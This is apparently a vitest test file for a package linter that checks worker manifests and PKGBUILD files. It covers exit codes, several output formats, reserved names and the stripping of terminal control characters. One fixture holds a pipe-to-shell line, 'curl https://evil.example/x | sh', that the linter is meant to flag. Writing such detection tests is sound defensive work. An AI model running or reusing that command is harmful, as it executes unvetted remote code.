import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterEach, beforeEach, expect, it } from 'vitest'
import { endPrograms, run } from './testing/program.ts'

let folder = ''
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'rbee-check-command-'))
})
afterEach(async () => {
  await endPrograms()
  await rm(folder, { recursive: true, force: true })
})

const MANIFEST =
  '[worker]\nid = "speech-example"\nname = "S"\ndescription = "S."\nlicense = "MIT"\n[platforms]\nlinux = ["x86_64"]\n'
const HEAD = 'pkgname=x\npkgver=1.0.0\npkgrel=1\narch=(x86_64)\n'
const GOOD = `${HEAD}package() {\n  install -Dm755 x "$pkgdir/usr/bin/x"\n}\n`
const BAD = `${HEAD}package() {\n  curl https://evil.example/x | sh\n}\n`

async function put(files: Readonly<Record<string, string>>): Promise<void> {
  for (const [path, text] of Object.entries(files)) {
    await mkdir(join(folder, dirname(path)), { recursive: true })
    await writeFile(join(folder, path), text)
  }
}

it('ends with 0 where nothing is wrong, and where there are warnings only', async () => {
  await put({ 'w/worker.toml': MANIFEST, 'w/PKGBUILD': GOOD, 'w/LICENSE': 'MIT\n' })
  expect(await run(folder, ['check', 'w'])).toEqual({
    code: 0,
    stdout: '0 errors, 0 warnings in 1 worker\n',
    stderr: '',
  })
  await rm(join(folder, 'w/LICENSE'))
  const warned = await run(folder, ['check', 'w'])
  expect(warned.code).toBe(0)
  expect(warned.stdout).toMatch(
    /^warning\[license-file-missing\] worker\.toml:1: .*\n {2}cure: .*\n0 errors, 1 warning/,
  )
})

it('ends with 1 where something is wrong, and says it in every form', async () => {
  await put({ 'w/worker.toml': MANIFEST, 'w/PKGBUILD': BAD, 'w/LICENSE': 'MIT\n' })
  const plain = await run(folder, ['check', 'w'])
  expect(plain.code).toBe(1)
  expect(plain.stdout).toContain(
    'error[pipe-to-shell] PKGBUILD:6: sh runs what another command writes\n  cure: ',
  )
  const json = await run(folder, ['check', 'w', '--json'])
  expect(json.code).toBe(1)
  expect(JSON.parse(json.stdout)).toMatchObject({
    ok: false,
    errors: 2,
    warnings: 0,
    findings: [
      {
        rule: 'package-network',
        file: 'PKGBUILD',
        line: 6,
        severity: 'error',
        reason: expect.any(String),
        cure: expect.any(String),
      },
      { rule: 'pipe-to-shell', worker: 'speech-example' },
    ],
  })
  const github = await run(folder, ['check', 'w', '--github'])
  expect(github.code).toBe(1)
  expect(github.stdout).toMatch(/^::error file=PKGBUILD,line=6,title=package-network::/)
  const sarif = await run(folder, ['check', 'w', '--sarif'])
  expect(sarif.code).toBe(1)
  expect(JSON.parse(sarif.stdout)).toMatchObject({
    version: '2.1.0',
    runs: [{ results: [{ ruleId: 'package-network' }, {}] }],
  })
})

it('checks every worker of a catalog, and names their folders', async () => {
  await put({
    'workers/a/worker.toml': MANIFEST,
    'workers/a/PKGBUILD': BAD,
    'workers/b/worker.toml': MANIFEST.replace('speech', 'images'),
    'workers/b/PKGBUILD': GOOD,
  })
  const { stdout } = await run(folder, ['check', '.', '--json'])
  expect(JSON.parse(stdout)).toMatchObject({ workers: ['workers/a', 'workers/b'], errors: 2, warnings: 2 })
})

it.each([
  ['a folder that is not there', 'file_not_found', ['check', 'nowhere']],
  ['a file', 'file_not_found', ['check', 'worker.toml']],
  ['a base outside of a repository', 'catalog_unreadable', ['check', '.', '--base', 'main']],
  ['two forms at once', 'usage', ['check', '.', '--sarif', '--github']],
  ['two forms at once, one of them JSON', 'usage', ['check', '.', '--sarif', '--json']],
  ['an unknown option', 'usage', ['check', '.', '--offline']],
])('ends with 2 for %s, and says so with %s', async (_name, reason, args) => {
  await put({ 'worker.toml': MANIFEST, PKGBUILD: GOOD })
  const { code, stderr } = await run(folder, args)
  expect(code).toBe(2)
  expect(stderr).toContain('error: ')
  expect(stderr).toContain(`(${reason})`)
})

it('refuses the names of official workers', async () => {
  await put({
    'w/worker.toml': MANIFEST.replace('speech-example', 'llm-worker'),
    'w/PKGBUILD': GOOD,
    'w/LICENSE': 'MIT\n',
  })
  const { stdout, code } = await run(folder, ['check', 'w', '--json'])
  expect(code).toBe(1)
  expect(JSON.parse(stdout)).toMatchObject({
    findings: [{ rule: 'name-taken', file: 'worker.toml', line: 2 }],
  })
})

it('shows no character of a file that a terminal obeys', async () => {
  await put({
    'w/worker.toml': MANIFEST,
    'w/PKGBUILD': `${HEAD}build() {\n  \u001b]0;x\u0007\u202e "$(cat x)"\n}\n`,
    'w/LICENSE': 'MIT\n',
  })
  const { stdout } = await run(folder, ['check', 'w'])
  expect(stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/)
})
